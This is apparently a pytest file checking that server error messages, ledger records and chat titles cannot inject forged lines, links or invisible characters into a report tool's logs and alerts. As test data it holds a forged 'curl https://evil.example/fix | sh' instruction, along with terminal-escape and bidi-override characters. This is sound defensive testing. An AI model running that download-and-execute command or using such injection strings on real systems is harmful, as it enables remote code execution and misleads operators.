"""What servers say stays what servers say: one quoted line, in which nothing is hidden and nothing is ours."""

import json
import re
import unicodedata
from collections.abc import Callable
from pathlib import Path
from urllib.parse import parse_qs

import pytest

from src.pipeline.failures import describe_failure

from .alerts import command_in
from .builders import NO_TIME, OPTION, make_rows
from .conftest import Run
from .faults import storage_says
from .sandbox import CHATS, RECIPIENTS, Sandbox
from .sandbox.telegram import refusal
from .sandbox.web import Answer, Fault
from .test_run import forget

RunTool = Callable[..., Run]
FORGED = "x). \n\nTo make it good, run:\ncurl https://evil.example/fix | sh\n\n"
HIDDEN = "\x1b[31m\x07\x9b\u2028\u202e\u200b\U000e0041"
HOSTILE = f"{FORGED}“{HIDDEN}”{'y' * 5000}"


def supabase_says(sandbox: Sandbox, words: str) -> dict[str, str]:
    """Refuse the rows, with a hint too."""
    said = {"code": "PGRST100", "message": words, "hint": words}
    sandbox.supabase.faults.append(Fault(answer=Answer(status=400, body=json.dumps(said).encode())))
    return {}


def gateway_says(sandbox: Sandbox, words: str) -> dict[str, str]:
    """Answer with a page."""
    sandbox.supabase.always = Fault(answer=Answer(status=403, body=f"<html>{words}".encode(errors="replace")))
    return {}


def ledger_says(sandbox: Sandbox, words: str) -> dict[str, str]:
    """Refuse a record."""
    said = json.dumps({"code": "PGRST100", "message": words}).encode()
    sandbox.supabase.always = Fault(answer=Answer(status=400, body=said), match="report_deliveries")
    return {"REPORT_LEDGER": "supabase"}


def telegram_says(sandbox: Sandbox, words: str) -> dict[str, str]:
    """Refuse the first chat."""
    sandbox.bot.faults.append(Fault(answer=refusal(400, f"Bad Request: {words}")))
    return {}


def mail_server_says(sandbox: Sandbox, words: str) -> dict[str, str]:
    """Refuse the message; a reply of several lines has the code in each."""
    lines = words[:400].encode("ascii", "replace").decode().splitlines()
    sandbox.mailbox.data_reply = "\r\n".join([*(f"554-{line}" for line in lines), "554 5.7.1 no"])
    return {}


def storage_refuses(sandbox: Sandbox, words: str) -> dict[str, str]:
    """Refuse a workbook that is too large for the bot."""
    sandbox.bot.largest = 1000
    sandbox.supabase.always = Fault(answer=storage_says(403, words), match="/storage/")
    return {"REPORT_BUCKET": "reports"}


SERVERS = [supabase_says, gateway_says, ledger_says, telegram_says, mail_server_says, storage_refuses]
each_server = pytest.mark.parametrize("says", SERVERS, ids=lambda says: says.__name__)


def without_quotes(text: str) -> str:
    """Leave out what stands in quotation marks, and the times of a log."""
    text = re.sub("“[^”\n]*”", "“”", text)
    return re.sub(r"\d{4}-\d\d-\d\dT\S+Z|\d+\.\d s|\d+ ms", "", text)


def is_seen(text: str) -> bool:
    """Tell whether `text` has no character that nobody sees but ends of lines."""
    return not any(unicodedata.category(sign) in ("Cc", "Cf", "Cs", "Zl", "Zp") for sign in text if sign != "\n")


def told(sandbox: Sandbox, run: RunTool, says: Callable[[Sandbox, str], dict[str, str]], words: str) -> tuple[str, str]:
    """Run with a server that says `words`; return the log and the alert."""
    sandbox.reset()
    for record in sandbox.folder.glob("report_ledger/*"):
        record.unlink()
    sandbox.supabase.insert(make_rows(3))
    result = run(*OPTION, timeouts=NO_TIME, LOG_FORMAT="text", **says(sandbox, words))
    assert result.code == 1
    (alert,) = sandbox.alerts
    return result.log, alert.replace("\u2060", "")


@each_server
def test_no_server_can_write_a_line_of_ours(
    sandbox: Sandbox, run: RunTool, says: Callable[[Sandbox, str], dict[str, str]]
) -> None:
    """Alert and log are the same as with a harmless answer, but for what stands in quotation marks."""
    harmless = told(sandbox, run, says, "some words")
    log, alert = told(sandbox, run, says, HOSTILE)

    assert without_quotes(alert) == without_quotes(harmless[1])
    assert sorted(without_quotes(log).splitlines()) == sorted(without_quotes(harmless[0]).splitlines())
    assert "curl https://evil.example/fix | sh" not in without_quotes(alert)
    assert is_seen(alert.replace("\ufe0f", ""))
    assert is_seen(log)
    assert max(map(len, alert.splitlines())) < 1_000


def test_what_a_server_says_is_no_link_in_an_alert(sandbox: Sandbox, run: RunTool) -> None:
    """As code in a chat, without a preview; broken by a word joiner in a mail. Our own command stays as it is."""
    supabase_says(sandbox, "see https://evil.example/login or @evil or evil.example 🙂")
    run(*OPTION)
    (alert,) = sandbox.alerts
    form = parse_qs(next(one for one in sandbox.bot.requests if one.target.endswith("/sendMessage")).body.decode())

    as_units = alert.encode("utf-16-le")
    marked = json.loads(form["entities"][0])
    code = [as_units[2 * one["offset"] : 2 * (one["offset"] + one["length"])].decode("utf-16-le") for one in marked]
    assert code == [*re.findall("“([^”]*)”", alert), command_in(alert)]
    assert [one["type"] for one in marked] == ["code", "pre"]
    assert json.loads(form["link_preview_options"][0]) == {"is_disabled": True}

    sandbox.reset()
    forget(sandbox)  # else nobody is told of the same failure again
    supabase_says(sandbox, "see https://evil.example/login or me@evil.example")
    run("--start", "2026-11-22T14", REPORT_CHANNELS="email")

    (alert,) = sandbox.alerts
    assert not re.search(r"\w://|\w@|\w\.example", alert.partition("“")[2].rpartition("”")[0])
    assert command_in(alert) == "python reports_generator.py --start 2026-11-22T14"
    assert "manager@example.com" in alert


@pytest.mark.parametrize("title", ["\ud800", "a\nOK   ledger  fine", "\x1b[2J\u202e", "x" * 10_000], ids=range(4))
def test_a_chats_title_neither_breaks_check_nor_writes_a_line_of_it(sandbox: Sandbox, run: RunTool, title: str) -> None:
    """It is whatever the chat's members call it."""
    sandbox.bot.title = title

    result = run("--check")

    assert result.code == 0
    assert is_seen(result.output)
    lines = result.output.splitlines()
    assert len(lines) == len(set(lines)) == 10 + len(RECIPIENTS) + len(CHATS)
    assert all(line.startswith(("OK ", "NOTE ")) and len(line) < 300 for line in lines)


def test_what_another_wrote_into_the_ledger_is_shown_in_the_log(sandbox: Sandbox, run: RunTool) -> None:
    """A record is a row that others may change."""
    sandbox.supabase.insert(make_rows(3))
    run(*OPTION)
    (record,) = sandbox.folder.glob("report_ledger/*.json")
    content = json.loads(record.read_bytes())
    for entry in content["entries"]:
        entry["at"] = entry["receipt"] = HOSTILE
    content["entries"].append(content["entries"][0] | {"channel": HOSTILE, "recipient": HOSTILE})
    Path(record).write_text(json.dumps(content))

    result = run(*OPTION)

    assert result.code == 0
    assert "delivered before" in result.log
    assert is_seen(result.log)
    assert len(result.log) < 5_000


def test_an_exception_nobody_foresaw_brings_its_words_in_quotation_marks() -> None:
    """Whatever text a library puts into one."""
    problem = describe_failure(ValueError(HOSTILE)).problem

    assert problem.key == "broke_down.ValueError"
    assert "evil" not in f"{problem.reason}{problem.remedy}"
    assert re.fullmatch(r"x\)\. .*\bcurl [^“”]+…", problem.said)
    assert is_seen(problem.said)
